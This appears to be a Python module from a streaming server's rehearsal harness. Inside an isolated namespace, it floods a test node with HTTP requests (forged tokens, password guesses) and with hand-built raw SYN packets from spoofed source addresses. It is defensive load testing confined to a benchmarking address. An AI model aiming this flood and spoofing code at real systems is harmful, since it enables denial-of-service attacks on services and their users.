"""Those who attack while viewers play: a program in a namespace of its own, which no packet leaves.

It takes no destination: it knows the address of the rehearsal's node alone.

* An HTTP flood, from sixteen addresses: each connection asks for what costs a server something as soon as it
  has the last answer, and comes again at once where it is ended: playlists with a forged grant, the page,
  passwords that are guessed, and paths that mean nothing.
* A SYN flood, from addresses that are made up: nobody answers there.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable
from ipaddress import ip_address
from typing import Final
from urllib.parse import urljoin, urlsplit

from pystream.rehearsal.players import BROWSER
from pystream.rehearsal.wire import (
    Broken,
    Connection,
    Loop,
    Target,
    Task,
    clock,
    raise_descriptor_limit,
    request,
    trusting,
)

NODE: Final = {4: "198.18.0.1", 6: "2001:db8::1"}
"""The only address that anything is sent to (RFC 2544, RFC 3849)."""
CABLE: Final = "cable"
"""The device that leads there (veth(4)), and the address of its other end, so that nobody is asked for it."""
MAC: Final = bytes.fromhex("02000000aa01")
_SOURCES, _CONNECTIONS = 16, 64
_SYNS_A_SECOND = 5000
_GRACE_SECONDS = 5.0
# Before one that was ended comes again: a program that attacks is as fast as its machine, and viewers share
# this one.
_AGAIN_SECONDS = 0.01


def http(plan: dict[str, float | str]) -> Counter[str]:
    """How often something came of it: `answered` and `refused` by status, `ended` without an answer."""
    url, loop, met = str(plan["url"]), Loop(), Counter[str]()
    target = Target.of(urlsplit(url))
    assert target.host == NODE[4]
    tls = trusting() if target.secure else None
    wanted = _wanted(url)
    raise_descriptor_limit()
    for number in range(_CONNECTIONS):
        source = f"198.18.64.{1 + number % _SOURCES}"
        loop.start(_attack(Connection(loop, target, tls, source=source), wanted, loop, met))
    loop.run(float(plan["seconds"]), _GRACE_SECONDS)
    return met


def _wanted(url: str) -> list[bytes]:
    guess = json.dumps({"password": "let me in"}).encode()
    forged = urlsplit(url)._replace(path=f"/t/{'A' * 64}{urlsplit(url).path}").geturl()
    return [
        request(url, BROWSER),
        request(urljoin(url, "."), BROWSER),
        request(urljoin(url, "session"), BROWSER, guess),
        request(forged, BROWSER),
        request(urljoin(url, "/nothing/here"), BROWSER),
    ]


def _attack(
    connection: Connection, wanted: list[bytes], loop: Loop, met: Counter[str]
) -> Task[None]:
    while not loop.ending:
        try:
            response = yield from connection.fetch(random.choice(wanted), keep=True)
            met["refused" if response.status in (429, 503) else "answered"] += 1
        except Broken:
            met["ended"] += 1
            yield clock() + _AGAIN_SECONDS
    connection.close()


def syns(plan: dict[str, float | str]) -> Counter[str]:
    """How many were `sent`."""
    port, sent = urlsplit(str(plan["url"])).port or 80, 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as cable:
        place = (CABLE, 0x0800, 0, 0, MAC)
        begin = time.monotonic()
        while (now := time.monotonic() - begin) < float(plan["seconds"]):
            # No bursts: they would let newcomers pass between them.
            while sent < now * _SYNS_A_SECOND:
                source = f"198.18.{random.randrange(96, 128)}.{random.randrange(256)}"
                cable.sendto(syn(source, port), place)
                sent += 1
            time.sleep(0.001)
    return Counter(sent=sent)


def syn(source: str, port: int) -> bytes:
    """A packet that asks the node for a connection (RFC 9293 3.1, RFC 791 3.1, RFC 8200 3)."""
    version = ip_address(source).version
    addresses = ip_address(source).packed + ip_address(NODE[version]).packed
    sequence = random.getrandbits(32)
    from_port = random.randrange(1024, 65_536)
    segment = struct.pack(
        ">HHIIHHHHHBB", from_port, port, sequence, 0, 6 << 12 | 2, 64_240, 0, 0, 0x0204, 0x05, 0xB4
    )
    pseudo = struct.pack(">IBBH", len(segment), 0, 0, 6) if version == 6 else b""
    pseudo = pseudo or struct.pack(">BBH", 0, 6, len(segment))
    total = _checksum(addresses + pseudo + segment)
    segment = segment[:16] + total.to_bytes(2, "big") + segment[18:]
    if version == 6:
        return struct.pack(">IHBB", 6 << 28, len(segment), 6, 64) + addresses + segment
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0) + addresses
    return header[:10] + _checksum(header).to_bytes(2, "big") + header[12:] + segment


def _checksum(data: bytes) -> int:
    """RFC 1071."""
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


KINDS: Final[dict[str, Callable[[dict[str, float | str]], Counter[str]]]] = {
    "http": http,
    "syn": syns,
}


def main(kind: str) -> int:
    """Attacks as the plan on standard input says, and tells what came of it."""
    json.dump(KINDS[kind](json.load(sys.stdin)), sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
